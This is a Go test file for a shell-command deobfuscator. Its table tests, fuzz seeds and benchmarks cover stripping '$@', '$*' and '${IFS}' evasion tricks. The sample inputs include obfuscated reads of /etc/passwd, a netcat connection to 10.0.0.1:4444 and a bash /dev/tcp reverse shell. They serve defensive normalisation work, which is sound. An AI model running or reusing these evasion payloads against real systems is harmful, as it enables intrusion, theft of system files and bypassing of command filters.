package deobfuscate

import "testing"

func TestShNoise(t *testing.T) {
	runTransformTable(t, ShNoise, []transformCase{
		{"at inside a word", `wh$@oami`, `whoami`, true},
		{"star inside a word", `c$*at /etc/pass$@wd`, `cat /etc/passwd`, true},
		{"braced and case-modified", `w${@}ho${*,,}ami`, `whoami`, true},
		{"quoted args kept", `exec "$@"`, `exec "$@"`, false},
		{"bare args kept", `echo $* | wc`, `echo $* | wc`, false},
		{"single quoted", `awk 'a$@b'`, `awk 'a$@b'`, false},
	})
}

func TestShIFS(t *testing.T) {
	runTransformTable(t, ShIFS, []transformCase{
		{"braced", `cat${IFS}/etc/passwd`, `cat /etc/passwd`, true},
		{"bare with $9", `cat$IFS$9/etc/passwd`, `cat /etc/passwd`, true},
		{"trimmed", `nc${IFS%??}10.0.0.1${IFS:0:1}4444`, `nc 10.0.0.1 4444`, true},
		{"longer name kept", `echo $IFSX`, `echo $IFSX`, false},
		{"single quoted", `echo '${IFS}'`, `echo '${IFS}'`, false},
	})
}

func FuzzShNoise(f *testing.F) {
	fuzzTransform(f, ShNoise, `wh$@oami`, `${@~~}`, `'$*'a`)
}

func FuzzShIFS(f *testing.F) {
	fuzzTransform(f, ShIFS, `cat${IFS}x`, `$IFS$9`, `${IFS%??}`)
}

func BenchmarkShNoise(b *testing.B) {
	benchTransform(b, ShNoise, `wh$@oami; c$*at /etc/pass$@wd | n$@c 10.0.0.1 4444`)
}

func BenchmarkShIFS(b *testing.B) {
	benchTransform(b, ShIFS, `bash${IFS}-i${IFS}>&${IFS}/dev/tcp/10.0.0.1/4444${IFS}0>&1`)
}
